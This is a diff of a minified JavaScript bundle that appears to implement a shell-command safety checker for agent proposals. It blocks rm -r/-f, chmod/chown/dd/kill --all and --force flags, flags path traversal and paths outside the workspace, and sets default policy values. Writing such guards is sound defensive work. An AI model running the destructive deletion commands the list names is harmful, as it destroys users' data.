+LOOKBEHINDS;static quote(e){return xe.quoteMeta(e)}static quoteReplacement(e,t=!1){return Qp.quoteReplacement(e,t)}static translateRegExp(e){
+return mT.translate(e)}static compile(e,t=0){xe.checkPattern(e),xe.checkFlags(t);let s=e;(t&Gn.CASE_INSENSITIVE)!==0&&(s=
 `(?i)${s}`),(t&Gn.DOTALL)!==0&&(s=`(?s)${s}`),(t&Gn.MULTILINE)!==0&&(s=`(?m)${s}`);let r=oe.PERL;(t&Gn.DISABLE_UNICODE_GROUPS)!==
-0&&(r&=~oe.UNICODE_GROUPS),(t&Gn.LOOKBEHINDS)!==0&&(r|=oe.LOOKBEHIND);const i=new Gn(e,t);return i.re2Input=lT.compileImpl(
+0&&(r&=~oe.UNICODE_GROUPS),(t&Gn.LOOKBEHINDS)!==0&&(r|=oe.LOOKBEHIND);const i=new Gn(e,t);return i.re2Input=pT.compileImpl(
 s,r,(t&Gn.LONGEST_MATCH)!==0),i}static matches(e,t){return Gn.compile(e).testExact(t)}static initTest(e,t,s){if(e==null)
 throw new Error("pattern is null");if(s==null)throw new Error("re2 is null");const r=new Gn(e,t);return r.re2Input=s,r}constructor(e,t){
 this.patternInput=e,this.flagsInput=t,this.re2Input=null}reset(){this.re2Input.reset()}flags(){return this.flagsInput}pattern(){
 return this.patternInput}re2(){return this.re2Input}matches(e){return this.testExact(e)}matcher(e){return xe.isByteArray(
-e)&&(e=Ts.utf8(e)),new Vp(this,e)}test(e){return xe.isByteArray(e)?this.re2Input.matchUTF8(e):this.re2Input.match(e)}testExact(e){
+e)&&(e=Ts.utf8(e)),new Qp(this,e)}test(e){return xe.isByteArray(e)?this.re2Input.matchUTF8(e):this.re2Input.match(e)}testExact(e){
 const t=xe.isByteArray(e)?vt.fromUTF8(e):vt.fromUTF16(e);return this.re2Input.executeEngine(t,0,oe.ANCHOR_BOTH,0)!==null}exec(e){
-const t=this.matcher(e);return t.find()?xm(t,e):null}split(e,t=0){const s=this.matcher(e),r=[];let i=0,o=0;for(;s.find();){
+const t=this.matcher(e);return t.find()?Om(t,e):null}split(e,t=0){const s=this.matcher(e),r=[];let i=0,o=0;for(;s.find();){
 if(o===0&&s.end()===0){o=s.end();continue}if(t>0&&r.length===t-1)break;if(o===s.start()){if(t===0){i+=1,o=s.end();continue}}else
 for(;i>0;)r.push(""),i-=1;r.push(s.substring(o,s.start())),o=s.end()}if(t===0&&o!==s.inputLength()){for(;i>0;)r.push(""),
 i-=1;r.push(s.substring(o,s.inputLength()))}return(t!==0||r.length===0&&!(o===s.inputLength()&&o>0))&&r.push(s.substring(
-o,s.inputLength())),r}*matchAll(e){const t=this.matcher(e);for(;t.find();)yield xm(t,e)}toString(){return this.patternInput}programSize(){
+o,s.inputLength())),r}*matchAll(e){const t=this.matcher(e);for(;t.find();)yield Om(t,e)}toString(){return this.patternInput}programSize(){
 return this.re2Input.numberOfInstructions()}groupCount(){return this.re2Input.numberOfCapturingGroups()}namedGroups(){return this.
 re2Input.namedGroups}equals(e){return this===e?!0:e===null||this.constructor!==e.constructor?!1:this.flagsInput===e.flagsInput&&
-this.patternInput===e.patternInput}};function yF(n,...e){if(Array.isArray(n)&&"raw"in n){const s=String.raw(n,...e);return $s.
-compile(s)}const t=typeof n=="number"?n:0;return(s,...r)=>{const i=String.raw(s,...r);return $s.compile(i,t)}}const Om=1e3;
-function Am(n,{ignoreCase:e,multiline:t,dotAll:s}={}){if(n.length>Om)return{error:`is longer than ${Om} characters`};try{
+this.patternInput===e.patternInput}};function EF(n,...e){if(Array.isArray(n)&&"raw"in n){const s=String.raw(n,...e);return $s.
+compile(s)}const t=typeof n=="number"?n:0;return(s,...r)=>{const i=String.raw(s,...r);return $s.compile(i,t)}}const Am=1e3;
+function Sm(n,{ignoreCase:e,multiline:t,dotAll:s}={}){if(n.length>Am)return{error:`is longer than ${Am} characters`};try{
 const r=$s.compile(n,(e?$s.CASE_INSENSITIVE:0)|(t?$s.MULTILINE:0)|(s?$s.DOTALL:0));return{matches:i=>r.test(i)}}catch(r){
-return{error:r.message}}}const BT=/^\s*([A-Za-z_]\w*)\(\s*([^\n]*?)\s*\)\s*$/d,fT=/^\s*(?:'([^'"\\\n]*)'|"([^'"\\\n]*)")\s*(?:,|$)/;
-function hT(n){const e=BT.exec(n);if(e===null)return;const[,t="",s=""]=e,r=s.trim();if(r.includes(`
-`))return;const i=[];let o=(e.indices?.[2]?.[0]??0)+s.length-s.trimStart().length,c=r;for(;c!=="";){const l=fT.exec(c);if(l===
+return{error:r.message}}}const gT=/^\s*([A-Za-z_]\w*)\(\s*([^\n]*?)\s*\)\s*$/d,CT=/^\s*(?:'([^'"\\\n]*)'|"([^'"\\\n]*)")\s*(?:,|$)/;
+function yT(n){const e=gT.exec(n);if(e===null)return;const[,t="",s=""]=e,r=s.trim();if(r.includes(`
+`))return;const i=[];let o=(e.indices?.[2]?.[0]??0)+s.length-s.trimStart().length,c=r;for(;c!=="";){const l=CT.exec(c);if(l===
 null)return;const[B,d,h]=l;i.push({text:d??h??"",span:{start:o,end:o+B.length}}),c=c.slice(B.length),o+=B.length}return{
-name:t,args:i}}const pT=(n,e,t)=>t.proposal.tool==="runpy"?ET(n,e,t):mT(n,Ip(e,n),t);function mT(n,e,t){const{families:s,
-patterns:r,disabled_packs:i}=t.policy,o=new Lc(t),c=jn(n.command),l=k=>k.map(v=>Sm(v,s,i)),B=l(Mn(c)),d=k=>B.flatMap(v=>{
-const O=Pm(v);return r.filter(D=>D.layer===k&&Fm(D.regex,O)).map(({name:D,regex:R,reason:z})=>(0,ct.gk)("custom_pattern",
-{name:D,pattern:R,reason:z},{layer:k}))}),h=[()=>gT(n,c),()=>l(CT(n,t.mount,o,B)).flatMap(k=>yT(k,o)),()=>B.flatMap(_T)];
-for(const[k,v]of h.entries()){const O=[...v(),...d(k+1)];if(O.length>0)return{findings:[...$p(O,1),...e.filter(Xc)]}}const g=B.
-map(({read:k})=>k.use),C=new Set(g.flatMap(Dp)),y=[...e,...[...C].map(k=>(0,ct.gk)(k,{}))],_=vc.options.findLast(k=>g.some(
-v=>v.risk===k));return _===void 0||_==="safe"||y.some(Xc)?{findings:y}:{findings:y,risk:_}}function Sm(n,e,t){const[s,...r]=n.
-words,i=Bp("workspace",s?.text??"",e),o=i&&!t.includes(i.family.category)?i:void 0;return{command:n,program:o,read:xp(r,
-o??{})}}function gT({targets:n},e){const t=n.flatMap(({script:s})=>s===void 0?[]:[s]);return[...Mr(e).map(s=>Tm(s,!0)),...t.
-flatMap(s=>Mr(jn(s))).map(s=>Tm(s,!1))]}function Tm({name:n,pattern:e,span:t},s){return(0,ct.gk)(n,{pattern:$m(e)},s?{span:t}:
-{})}const Im=200;function $m(n){return n.length>Im?`${n.slice(0,Im)}\u2026`:n}function CT({command:n},{tree:e,at:t},{cwd:s},r){
-return e!==void 0&&t!=="/"&&t===s&&r.length===1?Mn(jn(n,e)):r.map(o=>o.command)}function Xc({severity:n}){return n==="er\
-ror"}function Rm({program:n,read:e}){const t=n===void 0?[]:e.values;return new Set(t.flatMap(({kind:s,word:r})=>Mh.has(s)?
-[]:r))}const Nm=new Map;function Fm(n,e){const t=Nm.get(n)??Am(n);return Nm.set(n,t),"error"in t||t.matches(e)}function wF(n,e,t){
-return everyCommand(readShellText(n)).some(s=>Fm(e,Pm(Sm(s,t,[]))))}function Pm(n){const{words:e,redirections:t}=n.command,
-s=Rm(n);return[...e.filter(r=>!s.has(r)).map(({text:r})=>r),...t.map(({operator:r,target:i})=>`${r} ${i?.text??""}`)].join(
-" ")}function yT(n,e){const{words:t,redirections:s,problems:r}=n.command,i=Rm(n),o=r.filter(({rule:l})=>l==="variable-ex\
+name:t,args:i}}const wT=(n,e,t)=>t.proposal.tool==="runpy"?OT(n,e,t):bT(n,$p(e,n),t);function bT(n,e,t){const{families:s,
+patterns:r,disabled_packs:i}=t.policy,o=new jc(t),c=jn(n.command),l=k=>k.map(v=>Tm(v,s,i)),B=l(Mn(c)),d=k=>B.flatMap(v=>{
+const O=Lm(v);return r.filter(D=>D.layer===k&&Pm(D.regex,O)).map(({name:D,regex:R,reason:z})=>(0,ct.gk)("custom_pattern",
+{name:D,pattern:R,reason:z},{layer:k}))}),h=[()=>_T(n,c),()=>l(ET(n,t.mount,o,B)).flatMap(k=>vT(k,o)),()=>B.flatMap(xT)];
+for(const[k,v]of h.entries()){const O=[...v(),...d(k+1)];if(O.length>0)return{findings:[...Rp(O,1),...e.filter(eu)]}}const g=B.
+map(({read:k})=>k.use),C=new Set(g.flatMap(xp)),y=[...e,...[...C].map(k=>(0,ct.gk)(k,{}))],_=kc.options.findLast(k=>g.some(
+v=>v.risk===k));return _===void 0||_==="safe"||y.some(eu)?{findings:y}:{findings:y,risk:_}}function Tm(n,e,t){const[s,...r]=n.
+words,i=Bp("workspace",s?.text??"",e),o=i&&!t.includes(i.family.category)?i:void 0;return{command:n,program:o,read:Op(r,
+o??{})}}function _T({targets:n},e){const t=n.flatMap(({script:s})=>s===void 0?[]:[s]);return[...Gr(e).map(s=>Im(s,!0)),...t.
+flatMap(s=>Gr(jn(s))).map(s=>Im(s,!1))]}function Im({name:n,pattern:e,span:t},s){return(0,ct.gk)(n,{pattern:Rm(e)},s?{span:t}:
+{})}const $m=200;function Rm(n){return n.length>$m?`${n.slice(0,$m)}\u2026`:n}function ET({command:n},{tree:e,at:t},{cwd:s},r){
+return e!==void 0&&t!=="/"&&t===s&&r.length===1?Mn(jn(n,e)):r.map(o=>o.command)}function eu({severity:n}){return n==="er\
+ror"}function Nm({program:n,read:e}){const t=n===void 0?[]:e.values;return new Set(t.flatMap(({kind:s,word:r})=>Mh.has(s)?
+[]:r))}const Fm=new Map;function Pm(n,e){const t=Fm.get(n)??Sm(n);return Fm.set(n,t),"error"in t||t.matches(e)}function vF(n,e,t){
+return everyCommand(readShellText(n)).some(s=>Pm(e,Lm(Tm(s,t,[]))))}function Lm(n){const{words:e,redirections:t}=n.command,
+s=Nm(n);return[...e.filter(r=>!s.has(r)).map(({text:r})=>r),...t.map(({operator:r,target:i})=>`${r} ${i?.text??""}`)].join(
+" ")}function vT(n,e){const{words:t,redirections:s,problems:r}=n.command,i=Nm(n),o=r.filter(({rule:l})=>l==="variable-ex\
 pansion"),c=s.flatMap(({target:l})=>l??[]);return[...t.slice(1).filter(l=>!i.has(l)),...c].flatMap(({text:l,span:B})=>{const d=o.
-some(({span:h})=>h.start>=B.start&&h.end<=B.end);return[l,...wT(l)].flatMap(h=>Lm(h,B,e,d))})}function wT(n){if(!n.startsWith(
-"-"))return[];const{attached:e}=Ma(n);return[...e?[e]:[],.../^-[^-]./.test(n)?[n.slice(2)]:[]]}function Lm(n,e,t,s=!1){const r=s||
+some(({span:h})=>h.start>=B.start&&h.end<=B.end);return[l,...kT(l)].flatMap(h=>jm(h,B,e,d))})}function kT(n){if(!n.startsWith(
+"-"))return[];const{attached:e}=Ha(n);return[...e?[e]:[],.../^-[^-]./.test(n)?[n.slice(2)]:[]]}function jm(n,e,t,s=!1){const r=s||
 n.startsWith("~")?void 0:t.locate(n);return r===void 0||!t.isIn(r,t.workspace)?[(0,ct.gk)("path_outside_workspace",{path:n},
-{span:e})]:n.split(/[\\/]/).includes("..")?[(0,ct.gk)("path_traversal",{path:n},{span:e})]:[]}const bT=[[/^rm$/,/^-[A-Za-z]*[rRfiI]|^--(?:recursive|interactive|all)$/],
-[/^(?:chmod|chown|dd|kill)$/,/^--all$/],[/^/,/^--force$/]];function _T({command:n,program:e,read:t}){const[s,...r]=n.words;
-if(s===void 0)return[];const{text:i}=s,o=bT.flatMap(([B,d])=>B.test(i)?[d]:[]),c=r.filter(({text:B})=>o.some(d=>d.test(B)));
+{span:e})]:n.split(/[\\/]/).includes("..")?[(0,ct.gk)("path_traversal",{path:n},{span:e})]:[]}const DT=[[/^rm$/,/^-[A-Za-z]*[rRfiI]|^--(?:recursive|interactive|all)$/],
+[/^(?:chmod|chown|dd|kill)$/,/^--all$/],[/^/,/^--force$/]];function xT({command:n,program:e,read:t}){const[s,...r]=n.words;
+if(s===void 0)return[];const{text:i}=s,o=DT.flatMap(([B,d])=>B.test(i)?[d]:[]),c=r.filter(({text:B})=>o.some(d=>d.test(B)));
 return c.length>0?c.map(({text:B,span:d})=>(0,ct.gk)("blocked_flag",{program:i,flag:B},{span:d})):r.length===1&&e&&/^--(?:version|help)$/.
 test(r[0]?.text??"")?[]:(e?t.objections:[{objection:"is not allowed",word:s}]).map(({objection:B,word:d=s})=>(0,ct.gk)("\
-command_not_allowed",{program:i,objection:B},{span:d.span}))}function ET({command:n},e,t){const s=e.filter(({rule:c})=>(0,gs.
-Y)(c).anyText===!0),r=hT(n),[i]=r?.args??[];if(r?.name!=="write_file"||i===void 0){const c=$m(r?.name??n);return{findings:[
+command_not_allowed",{program:i,objection:B},{span:d.span}))}function OT({command:n},e,t){const s=e.filter(({rule:c})=>(0,gs.
+Y)(c).anyText===!0),r=yT(n),[i]=r?.args??[];if(r?.name!=="write_file"||i===void 0){const c=Rm(r?.name??n);return{findings:[
 (0,ct.gk)("command_not_allowed",{program:c,objection:"is not a call of a file tool with literal arguments"}),...s]}}const o=[
-...Lm(i.text,i.span,new Lc(t)),...s];return o.some(Xc)?{findings:o}:{findings:o,risk:"write"}}function vT(n,e,t){const s=Rp(
-n),r=l=>ST[l](n,s,t),i=r("evolver"),o=r("validator"),c={evolver:i,validator:o}[e]??r(e);return eu(n,[e,c],{evolver:i,validator:o},
-t)}function kT(n,e,t){const s={findings:nu(Rp(n))},r={evolver:s,validator:s};return eu(n,["curated",jp(e,t)],r,t)}function DT(n,e,t,s){
-const r=typeof n=="string"?n:"",i=[(0,ct.be)(`the command \`${r}\``,t)];return eu({command:r,words:[],assignments:[],argv:null,
-targets:[],problems:[]},[e,{findings:i}],{evolver:{findings:i},validator:{findings:i}},s)}function eu(n,[e,t],s,{policy:{
-a2a:r}}){const i=xT(n,nu(t.findings)),o=tu(i),c=B=>B===t?o:tu(nu(B.findings)),l=Cs.ug.map(B=>{const d=Up(B,n.command),h=r.
-engines.includes(B)&&{required:!0};return[B,{...tu(d?[d]:[]),...h}]});return{reading:n,verdict:o.verdict,risk:t.risk??AT(
+...jm(i.text,i.span,new jc(t)),...s];return o.some(eu)?{findings:o}:{findings:o,risk:"write"}}function AT(n,e,t){const s=Np(
+n),r=l=>NT[l](n,s,t),i=r("evolver"),o=r("validator"),c={evolver:i,validator:o}[e]??r(e);return tu(n,[e,c],{evolver:i,validator:o},
+t)}function ST(n,e,t){const s={findings:su(Np(n))},r={evolver:s,validator:s};return tu(n,["curated",Mp(e,t)],r,t)}function TT(n,e,t,s){
+const r=typeof n=="string"?n:"",i=[(0,ct.be)(`the command \`${r}\``,t)];return tu({command:r,words:[],assignments:[],argv:null,
+targets:[],problems:[]},[e,{findings:i}],{evolver:{findings:i},validator:{findings:i}},s)}function tu(n,[e,t],s,{policy:{
+a2a:r}}){const i=IT(n,su(t.findings)),o=nu(i),c=B=>B===t?o:nu(su(B.findings)),l=Cs.ug.map(B=>{const d=Jp(B,n.command),h=r.
+engines.includes(B)&&{required:!0};return[B,{...nu(d?[d]:[]),...h}]});return{reading:n,verdict:o.verdict,risk:t.risk??RT(
 o.verdict,i),confirmation:t.confirmation??"standard",findings:i,profiles:{evolver:c(s.evolver),validator:c(s.validator),
-[e]:o,...Object.fromEntries(l)}}}function xT({command:n},e){const t=e[0]?.severity==="error"?Ep(n)?.does:void 0;return t===
-void 0?e:e.map(s=>s.severity==="error"?{...s,harm:"danger",danger:t}:s)}function tu(n){const e=OT(n),[t]=n;if(e==="block"&&
+[e]:o,...Object.fromEntries(l)}}}function IT({command:n},e){const t=e[0]?.severity==="error"?vp(n)?.does:void 0;return t===
+void 0?e:e.map(s=>s.severity==="error"?{...s,harm:"danger",danger:t}:s)}function nu(n){const e=$T(n),[t]=n;if(e==="block"&&
 t)return{verdict:e,reason:t};const s=n.find(({rule:r})=>r==="validator-empty-folder");return s?{verdict:e,remark:s}:{verdict:e}}
-function OT(n){return n.some(({severity:t})=>t==="error")?"block":n.some(({severity:t,rule:s})=>t==="warning"&&s!=="expe\
-rimental_mode")?"warn":"allow"}function AT(n,e){return n==="block"?"dangerous":e.some(({rule:t})=>(0,gs.Y)(t).writes===!0)?
-"write":"safe"}function nu(n){return Cs.oC.flatMap(e=>n.filter(({severity:t})=>t===e))}const ST={evolver:jS,validator:zS,
-curated:Np,workspace:pT};function bF({findings:n}){return n.flatMap(({rule:e,args:{path:t}})=>e==="target-missing"&&typeof t==
-"string"?normalise(t)??[]:[])}const TT=4e3;class Wr{terms;context;clock;#e=new Map;#t=new Map;#s;constructor(e,t,s){this.
-terms=e,this.context=t,this.clock=s}static by(e){const t=Pc(e,{});return new Wr(e,t,e.clock??new AO(e.signal))}with(e){const t={
-...this.terms,...e},s=Pc(t,this.context.proposal);return new Wr(t,s,this.clock)}proposed(e){return new Wr(this.terms,Pc(
-this.terms,e),this.clock)}storeOf(e){const{cwd:t,checkoutAs:s}=this.terms,r=Vd(e,this.terms);return t===void 0?r:{...r,root:t,
+function $T(n){return n.some(({severity:t})=>t==="error")?"block":n.some(({severity:t,rule:s})=>t==="warning"&&s!=="expe\
+rimental_mode")?"warn":"allow"}function RT(n,e){return n==="block"?"dangerous":e.some(({rule:t})=>(0,gs.Y)(t).writes===!0)?
+"write":"safe"}function su(n){return Cs.oC.flatMap(e=>n.filter(({severity:t})=>t===e))}const NT={evolver:US,validator:KS,
+curated:Fp,workspace:wT};function kF({findings:n}){return n.flatMap(({rule:e,args:{path:t}})=>e==="target-missing"&&typeof t==
+"string"?normalise(t)??[]:[])}const FT=4e3;class Kr{terms;context;clock;#e=new Map;#t=new Map;#s;constructor(e,t,s){this.
+terms=e,this.context=t,this.clock=s}static by(e){const t=Lc(e,{});return new Kr(e,t,e.clock??new IO(e.signal))}with(e){const t={
+...this.terms,...e},s=Lc(t,this.context.proposal);return new Kr(t,s,this.clock)}proposed(e){return new Kr(this.terms,Lc(
+this.terms,e),this.clock)}storeOf(e){const{cwd:t,checkoutAs:s}=this.terms,r=Qd(e,this.terms);return t===void 0?r:{...r,root:t,
 checkoutAs:s}}forFile(e){return this.startingIn(this.storeOf(e))}startingIn({root:e,checkoutAs:t}){if(e===(this.terms.cwd??
 "")&&t===this.terms.checkoutAs)return this;const s=t===void 0?e:`../${t}`,r=this.#t.get(s)??this.with({cwd:e,checkoutAs:t});
 return this.#t.set(s,r),r}command(e){const t=this.#e.get(e);if(t!==void 0)return t;const s=this.#i(e);this.#e.set(e,s);const[
-r]=this.#e.keys();return this.#e.size>TT&&this.#e.delete(r),s}async risk(e,t){return kT(await this.#r(t),e,this.context)}async#i(e){
-const{profile:t}=this.terms.policy;try{return vT(await this.#r(e),t,this.context)}catch(s){return DT(e,t,s,this.context)}}async#r(e){
-const{checkoutAs:t}=this.terms;this.#s??=this.#n();const s=this.#s;await this.clock.tick();const r=await s0(await hO(e,s),
-s);return t===void 0?r:T_(t,r)}#n(){const{tree:e,base:t,changed:s,cwd:r="",checkoutAs:i,policy:o}=this.terms,c={...e&&{tree:e},
-...t&&{base:t},changed:s,cwd:r,clock:this.clock,programs:hp(o),isOutput:VA(o).areBuilt};return i===void 0?c:S_(i,c)}}function IT(n){
-return n==="darwin"||n==="win32"?n:"linux"}const _o=JSON.parse('{"extends":null,"profile":"evolver","mode":"write","allo\
+r]=this.#e.keys();return this.#e.size>FT&&this.#e.delete(r),s}async risk(e,t){return ST(await this.#r(t),e,this.context)}async#i(e){
+const{profile:t}=this.terms.policy;try{return AT(await this.#r(e),t,this.context)}catch(s){return TT(e,t,s,this.context)}}async#r(e){
+const{checkoutAs:t}=this.terms;this.#s??=this.#n();const s=this.#s;await this.clock.tick();const r=await o0(await gO(e,s),
+s);return t===void 0?r:I_(t,r)}#n(){const{tree:e,base:t,changed:s,cwd:r="",checkoutAs:i,policy:o}=this.terms,c={...e&&{tree:e},
+...t&&{base:t},changed:s,cwd:r,clock:this.clock,programs:hp(o),isOutput:eS(o).areBuilt};return i===void 0?c:T_(i,c)}}function PT(n){
+return n==="darwin"||n==="win32"?n:"linux"}const vo=JSON.parse('{"extends":null,"profile":"evolver","mode":"write","allo\
 w_dangerous":false,"allowed_roots":[],"workspace":".","disabled_packs":[],"experimental":[],"programs":[],"tool_flags":{\
 },"make_variables":[],"families":[],"patterns":[],"approvals":{"strong":1,"very_strong":2,"gate":1,"people":[],"unaffect\
 ed_by":[]},"fail_on":"error","enforce":"block","rules":{},"containment":"require-for-forks","network":"none","proof":"au\
@@ -7096,148 +7104,147 @@ iles":4096,"file_bytes":4294967296,"written_bytes":4294967296},"blast_radius":{"
 rd_cap_lines":20000,"forbidden_paths":[],"protected_paths":[],"audit_log":"append"},"agent_files":{"level":"warn","inclu\
 de":["**"],"exclude":[],"rules":[]},"a2a":{"min_score":0.7,"max_files":5,"max_lines":200,"min_success_streak":2,"confide\
 nce_factor":0.6,"engines":["hub 1.94"],"require_evidence":"gate","require_proof":"none","attestation":[]},"ignores":[],"\
-branches":{}}'),_F="sha256:7b52e801ed020b2be57228dd92ab4dfd277ae7f3b00a07152c9e377d8de3ee31";var fn=at(581),$T=at(442);function RT(n,e="\
+branches":{}}'),DF="sha256:7b52e801ed020b2be57228dd92ab4dfd277ae7f3b00a07152c9e377d8de3ee31";var fn=at(581),LT=at(442);function jT(n,e="\
 the given files"){const t=new Map(Object.entries(n)),s=i=>{const o=t.get(i);return typeof o=="string"?Buffer.from(o):Buffer.
-isBuffer(o)?o:o!==void 0&&"executable"in o?Buffer.from(o.executable):void 0};return{...v_([...t].map(([i,o])=>NT(i,o,s(i)?.
+isBuffer(o)?o:o!==void 0&&"executable"in o?Buffer.from(o.executable):void 0};return{...k_([...t].map(([i,o])=>MT(i,o,s(i)?.
 length))),label:e,readlink:i=>{const o=t.get(i);return typeof o=="object"&&"symlink"in o?o.symlink:void 0},read:async i=>{
-const o=s(i);if(o===void 0)throw k_(e,i);return o}}}function NT(n,e,t){const s=!n.split("/").includes("node_modules");if(typeof e==
+const o=s(i);if(o===void 0)throw D_(e,i);return o}}}function MT(n,e,t){const s=!n.split("/").includes("node_modules");if(typeof e==
 "object"&&"symlink"in e)return{path:n,kind:"symlink",tracked:s};if(typeof e=="object"&&"submodule"in e)return{path:n,kind:"\
 submodule",oid:e.submodule,tracked:s};const r=typeof e=="object"&&"executable"in e;return{path:n,kind:r?"executable":"fi\
-le",...t===void 0?{}:{size:t},tracked:s}}const jm="scripts/validate",FT=[16,64];class su{#e;#t=new Map;#s;#i;#r;#n;constructor(e){
+le",...t===void 0?{}:{size:t},tracked:s}}const Mm="scripts/validate",GT=[16,64];class ru{#e;#t=new Map;#s;#i;#r;#n;constructor(e){
 const{tree:t,cwd:s="",checkoutAs:r}=e.terms;this.#e=t,this.#s=s,this.#i=r===void 0?"":`${r}/`,this.#r=e,this.#n=t&&this.#u(
 t)}get judge(){return this.#r}get tree(){return this.#n}pathOf(e){return Le.posix.join(this.#s,e.slice(this.#i.length))}textOf(e){
-return this.#t.get(e)}async place(e){const t=this.#e;if(t===void 0)return;const s=(0,ia.hash)("sha256",e);for(const r of FT){
-const i=`${this.#i}${jm}/eval-${s.slice(0,r)}.cjs`,o=this.pathOf(i);if(!ya(o).every(d=>(t.stat(d)?.kind??"directory")===
+return this.#t.get(e)}async place(e){const t=this.#e;if(t===void 0)return;const s=(0,aa.hash)("sha256",e);for(const r of GT){
+const i=`${this.#i}${Mm}/eval-${s.slice(0,r)}.cjs`,o=this.pathOf(i);if(!ba(o).every(d=>(t.stat(d)?.kind??"directory")===
 "directory"))return;const l=t.stat(o);if(l===void 0)return this.#a(o,e,t),i;if(Wt(l.kind)&&l.tracked&&(await t.read(o)).
-equals(Buffer.from(e)))return i}}#a(e,t,s){if(this.#t.has(e))return;this.#t.set(e,t);const r=PT(s,Object.fromEntries(this.#t));
+equals(Buffer.from(e)))return i}}#a(e,t,s){if(this.#t.has(e))return;this.#t.set(e,t);const r=HT(s,Object.fromEntries(this.#t));
 this.#r=this.#r.with({tree:r}),this.#n=this.#u(r)}#u(e){const{checkoutAs:t}=this.#r.terms;return t===void 0?qs(e,this.#s):
-Si(e,t)}}function PT(n,e){const t=RT(e),s=(r,i)=>[...r,...[...i].filter(({path:o})=>n.stat(o)===void 0)].sort(Yd);return{
+Ti(e,t)}}function HT(n,e){const t=jT(e),s=(r,i)=>[...r,...[...i].filter(({path:o})=>n.stat(o)===void 0)].sort(Vd);return{
 label:n.label,original:n,stat:r=>n.stat(r)??t.stat(r),readlink:r=>n.readlink(r),read:(r,i)=>r in e?t.read(r,i):n.read(r,
-i),list:r=>s(n.list(r),t.list(r)),files:()=>s(n.files(),t.files())}}function Zr(n,{start:e,end:t},s){return n.slice(0,e)+
-s+n.slice(t)}function ru(n,{start:e,end:t}){const s=n.slice(0,e).replace(/(?<![ \t])[ \t]+$/,"");return s===""?n.slice(t).
-replace(/^[ \t]+/,""):s+n.slice(t)}function An(...n){return{step:"command suggested",commands:n}}function iu({problems:n},e=[]){
-return n.some(({rule:t,severity:s})=>s==="error"&&(0,gs.Y)(t).layer==="syntax"&&!e.includes(t))}const LT=async(n,e)=>{const t=HT(
+i),list:r=>s(n.list(r),t.list(r)),files:()=>s(n.files(),t.files())}}function Wr(n,{start:e,end:t},s){return n.slice(0,e)+
+s+n.slice(t)}function iu(n,{start:e,end:t}){const s=n.slice(0,e).replace(/(?<![ \t])[ \t]+$/,"");return s===""?n.slice(t).
+replace(/^[ \t]+/,""):s+n.slice(t)}function An(...n){return{step:"command suggested",commands:n}}function ou({problems:n},e=[]){
+return n.some(({rule:t,severity:s})=>s==="error"&&(0,gs.Y)(t).layer==="syntax"&&!e.includes(t))}const zT=async(n,e)=>{const t=WT(
 n);if(t===void 0||"reason"in t)return t;const{scriptText:s}=await Promise.all([at.e(559),at.e(442)]).then(at.bind(at,61)),
-r=s(t.evaluation.code);if(typeof r!="string")return r;const i=await e.place(r);return i===void 0?{reason:fn.Ot.noPlace(jm)}:
-{step:"code moved into a script",commands:[t.evaluation.withScript(i)],scripts:[i]}},jT=["line-break","blank-padding","m\
-arkup-injection"],MT=new Set(["--eval","--print"]),GT=/strip-types|transform-types|detect-module|^--test/;function HT(n){
-const{invocation:e,command:t,assignments:s}=n;if(e?.program!=="node")return;const r=e.flags.filter(({name:C})=>MT.has(C));
-if(r.length===0)return;if(!zT(n))return{reason:fn.Ot.codeNotMoved("a shell would change it before `node` gets it")};const[
+r=s(t.evaluation.code);if(typeof r!="string")return r;const i=await e.place(r);return i===void 0?{reason:fn.Ot.noPlace(Mm)}:
+{step:"code moved into a script",commands:[t.evaluation.withScript(i)],scripts:[i]}},UT=["line-break","blank-padding","m\
+arkup-injection"],JT=new Set(["--eval","--print"]),ZT=/strip-types|transform-types|detect-module|^--test/;function WT(n){
+const{invocation:e,command:t,assignments:s}=n;if(e?.program!=="node")return;const r=e.flags.filter(({name:C})=>JT.has(C));
+if(r.length===0)return;if(!KT(n))return{reason:fn.Ot.codeNotMoved("a shell would change it before `node` gets it")};const[
 i,...o]=r;if(i?.value===void 0||i.name!=="--eval"||o.length>0)return{reason:fn.Ot.codeNotMoved("it is not one text, or i\
-ts value is printed")};const c=e.flags.filter(C=>C!==i),l=c.find(C=>!UT(C));if(l!==void 0)return{reason:fn.Ot.codeNotMoved(
+ts value is printed")};const c=e.flags.filter(C=>C!==i),l=c.find(C=>!qT(C));if(l!==void 0)return{reason:fn.Ot.codeNotMoved(
 `\`${l.written}\` changes how \`node\` runs it`)};const B=({start:C,end:y})=>t.slice(C,y),d=e.passthrough.at(-1),h=e.passthrough.
 slice(0,1).map(({span:C})=>B({start:C.start,end:d?.span.end??C.end})),g=[...s.map(({span:C})=>B(C)),"node"];return{evaluation:{
-code:i.value,withScript:C=>[...g,...c.map(({span:y})=>B(y)),C,...h].join(" ")}}}function zT(n){const{command:e,words:t,assignments:s}=n;
-if(iu(n,jT))return!1;let r=0;for(const{span:i}of[...s,...t]){if(i.start>r&&!/^[ \t]*$/.test(e.slice(r,i.start)))return!1;
-r=Math.max(r,i.end)}return/^[ \t]*$/.test(e.slice(r))}function UT({name:n}){return qa.get(n.replace(/^--(?:no-)?/,""))?.
-kind==="harmless"&&!GT.test(n)}const JT=new Set("target-outside tilde-expansion variable-expansion command-substitution".
-split(" ")),ZT=({command:n,words:e,invocation:t,problems:s},{tree:r})=>{if(t?.program!=="node"||r===void 0)return;const i=s.
-filter(({rule:o})=>JT.has(o));for(const{text:o,span:c}of e.slice(1)){if(!i.some(({span:{start:_}})=>_>=c.start&&_<c.end))
-continue;const B=[o,n.slice(c.start,c.end)].map(_=>WT(r,_)).find(_=>_!==void 0);if(B===void 0)continue;const d=/^[\w./@-]+$/.
-test(B)?B:(0,$T.f)(B),h=n.slice(0,c.start)+d,g=n.slice(c.end),C=o.endsWith(`/${B}`)?o.slice(0,-B.length):void 0,y=C===void 0?
-g:g.replaceAll(` ${C}`," ");return{step:"path made relative",commands:[h+y]}}};function WT(n,e){const t=e.split(/[\\/]/).
+code:i.value,withScript:C=>[...g,...c.map(({span:y})=>B(y)),C,...h].join(" ")}}}function KT(n){const{command:e,words:t,assignments:s}=n;
+if(ou(n,UT))return!1;let r=0;for(const{span:i}of[...s,...t]){if(i.start>r&&!/^[ \t]*$/.test(e.slice(r,i.start)))return!1;
+r=Math.max(r,i.end)}return/^[ \t]*$/.test(e.slice(r))}function qT({name:n}){return Va.get(n.replace(/^--(?:no-)?/,""))?.
+kind==="harmless"&&!ZT.test(n)}const YT=new Set("target-outside tilde-expansion variable-expansion command-substitution".
